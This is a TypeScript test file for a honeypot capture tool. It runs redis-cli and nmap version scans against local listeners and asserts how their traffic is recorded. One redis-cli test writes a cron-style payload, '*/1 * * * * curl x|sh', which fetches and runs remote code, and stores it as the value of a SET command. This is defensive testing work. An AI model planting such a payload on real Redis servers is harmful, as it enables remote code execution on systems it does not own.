// Real attack tools against a catch-all capture, as issue 20 asks: redis-cli (a command with
// arguments, then a truncated and a garbage RESP array by hand) and nmap's version scan
// (-sV), whose probes must be recorded and classified like any other client's bytes.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { after, before, describe, test } from 'node:test';
import { exchange } from '../helpers/client.js';
import { type Honeygate, startHoneygate } from '../helpers/honeygate.js';
import { needs } from '../helpers/peers.js';
import { freePort } from '../helpers/ports.js';

/** Runs a tool to its end (or kills it after `ms`); resolves with its output either way. */
function run(cmd: string, args: string[], ms: number): Promise<string> {
  return new Promise((resolve) => {
    execFile(cmd, args, { timeout: ms }, (_err, stdout, stderr) => resolve(`${stdout}${stderr}`));
  });
}

describe('real attack tools against a capture', { timeout: 110_000 }, () => {
  let hg: Honeygate;
  let redisPort: number;
  let webPort: number;

  before(async () => {
    redisPort = await freePort();
    webPort = await freePort();
    hg = await startHoneygate(`
listeners:
  - name: redis
    bind: "127.0.0.1:${redisPort}"
  - name: web
    bind: "127.0.0.1:${webPort}"
routes:
  # nmap waits 6 s for a banner before its first probe: a capture that hangs up sooner is
  # "tcpwrapped" to it, and it sends nothing.
  - match: { listeners: [web] }
    capture: { timeout: 10s }
  - capture: { timeout: 1s }
limits: { perSourceRate: 1000/s }
events: { sqlite: "{{dir}}/events.db", batch: 50ms }
`);
  });
  after(() => hg?.close());

  test('redis-cli SET: the command and its arguments; truncated and garbage arrays recorded as such', {
    skip: needs('redis-cli'),
  }, async () => {
    await run(
      'redis-cli',
      ['-h', '127.0.0.1', '-p', String(redisPort), 'SET', 'backup', '*/1 * * * * curl x|sh'],
      10_000,
    );
    const truncated = await exchange(redisPort, '*3\r\n$3\r\nSET\r\n$3\r\nke', { replyTimeoutMs: 3000 });
    const garbage = await exchange(redisPort, '*9999999999\r\n\xff\xfe', { replyTimeoutMs: 3000 });
    const events = await hg.waitForEvents(
      (es) => es.filter((e) => e.dst.port === redisPort && e.type === 'flow').length >= 3,
      15_000,
    );
    const bySrc = (port: number | null) =>
      events.find((e) => e.dst.port === redisPort && e.src.port === port);
    const set = events.find(
      (e) =>
        e.dst.port === redisPort && e.protocolFields?.command === 'SET' && e.src.port !== truncated.localPort,
    )!;
    assert.equal(set.protocol, 'redis');
    assert.deepEqual(set.protocolFields, {
      command: 'SET',
      args: ['backup', '*/1 * * * * curl x|sh'],
      argc: 3,
      inline: false,
    });
    // A command whose arguments did not all arrive is still the command; what came is kept.
    const cut = bySrc(truncated.localPort)!;
    assert.equal(cut.protocol, 'redis');
    assert.deepEqual(cut.protocolFields, { command: 'SET', args: [], argc: 3, inline: false });
    assert.equal(cut.firstBytes.toString('latin1'), '*3\r\n$3\r\nSET\r\n$3\r\nke');
    const junk = bySrc(garbage.localPort)!;
    assert.notEqual(junk.protocol, 'redis');
    assert.equal(junk.firstBytes.length, Buffer.byteLength('*9999999999\r\n\xff\xfe'));
  });

  test('nmap -sV: its service probes are recorded, the HTTP one as http', {
    skip: needs('nmap'),
  }, async () => {
    const out = await run(
      'nmap',
      ['-sV', '--version-intensity', '2', '-Pn', '-n', '-p', String(webPort), '127.0.0.1'],
      90_000,
    );
    assert.match(out, /Nmap done: 1 IP address/, out);
    const events = await hg.waitForEvents(
      (es) => es.some((e) => e.dst.port === webPort && e.protocol === 'http'),
      15_000,
    );
    const probes = events.filter((e) => e.dst.port === webPort && e.type === 'flow');
    const http = probes.find((e) => e.protocol === 'http')!;
    assert.match(http.firstBytes.toString('latin1'), /^(GET|OPTIONS) \/ HTTP\/1\.[01]\r\n/);
    // nmap's NULL probe waits on the first connection, then sends its probes: each is a flow.
    assert.ok(probes.length >= 2, `${probes.length} probes recorded`);
  });
});
